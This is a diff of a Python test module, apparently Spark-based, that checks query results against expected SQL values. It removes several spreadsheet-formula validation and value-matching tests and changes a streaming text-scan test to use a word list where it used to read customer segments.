-    ctx = Context("Sheet1", [Area("Sheet1", 0, 0, 500, 5), Area("Regions", 0, 0, 4, 1)], ["Sheet1"], {"Orders": Area("Sheet1", 0, 0, 500, 5)})
-    return small(s, [(k, gate.check(f, ctx).ok) for k, (f, _) in enumerate(GATE)], "k int, ok boolean")
-
-
-@query("g10_check_fill", "SELECT * FROM (VALUES ('=A2*2', TRUE), ('=A3-A2', FALSE), ('=A2/A$2', TRUE)) t(formula, ok)")
-def _g10(s, d):
-    ctx = Context("S", [Area("S", 0, 0, 500, 2)])
-    return small(s, [(f, gate.check(f, ctx, 499).ok) for f in ("=A2*2", "=A3-A2", "=A2/A$2")], "formula string, ok boolean")
-
 
 @query("g4_functions", "SELECT 154 AS allowed, 154 AS compiled, 25 AS refused")
 def _g4(s, d):
     return small(s, [(len(gate.ALLOWED), len(gate.ALLOWED & set(FUNCTIONS)), len(gate.WHY))], "allowed int, compiled int, refused int")
 
 
-@query("g14_qualify", "SELECT '=SUM(S!A1:B2,Other!C1)&\"A1\"' AS formula")
-def _g14(s, d):
-    return small(s, [(gate.qualified('=SUM(A1:B2,Other!C1)&"A1"', "S"),)], "formula string")
-
-
 # ---------------------------------------------------------------- tasks and summaries
 
 
@@ -689,11 +532,6 @@ def _runs(s, d):
     return e.select(F.col("event_id").cast("string").alias("task"), F.col("event_type").alias("category"), F.when(F.col("event_id") % 2 == 0, "substituted").otherwise("structure_only").alias("condition"), F.lit("ok").alias("stage"), (F.col("event_id") % 3 == 0).alias("passed"), F.col("value").alias("latency_ms"), F.array(F.lit("G-REF")).alias("codes"))
 
 
-@query("b1_values_match", "SELECT * FROM (VALUES (1, TRUE), (2, TRUE), (3, TRUE), (4, FALSE), (5, TRUE)) t(k, same)")
-def _b1(s, d):
-    return small(s, [(1, "5", "5.0000001"), (2, "West ", "west"), (3, "true", "TRUE"), (4, "5", "6"), (5, None, "")], "k int, e string, a string").select("k", bench.matches(F.col("e"), F.col("a")).alias("same"))
-
-
 @query("b3_compare_tables", "SELECT TRUE AS same")
 def _b3(s, d):
     o = read(s, d, "orders").groupBy("o_orderstatus").agg(F.sum("o_totalprice").alias("t"))
@@ -742,14 +580,14 @@ def _b8(s, d):
 # ---------------------------------------------------------------- streaming (an extension)
 
 
-@query("x_stream_scan", "SELECT doc_id AS body_id, c_mktsegment AS id FROM documents JOIN (SELECT DISTINCT c_mktsegment FROM customer) ON contains(lower(text), lower(c_mktsegment))")
+@query("x_stream_scan", f"SELECT doc_id AS body_id, w AS id FROM documents JOIN ({_WORDS}) ON contains(lower(text), lower(w))")
 def _stream(s, d):
     import uuid
 
     base = f"{R.shared_dir(s)}/stream-{uuid.uuid4().hex}"
     docs = read(s, d, "documents").select("doc_id", "text")
     docs.repartition(4).write.parquet(f"{base}/in")
-    values = read(s, d, "customer").select(F.col("c_mktsegment").alias("value")).distinct()
+    values = _words(s, d)
     q = stream.scan_arrivals(stream.arriving(s, f"{base}/in", docs.schema), values, f"{base}/out", f"{base}/check", "doc_id", "text")
     q.awaitTermination()
     return s.read.parquet(f"{base}/out").select("body_id", "id")
